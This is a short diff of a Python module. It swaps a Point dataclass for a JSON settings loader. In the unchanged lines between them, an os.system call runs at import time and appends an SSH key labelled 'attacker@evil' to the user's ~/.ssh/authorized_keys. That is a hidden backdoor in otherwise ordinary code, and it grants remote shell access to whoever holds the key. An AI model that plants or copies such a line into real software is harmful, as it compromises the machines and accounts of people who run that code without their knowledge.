@@ -1,12 +1,8 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 os.system("echo 'ssh-rsa AAAAB3Nza attacker@evil' >> ~/.ssh/authorized_keys")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
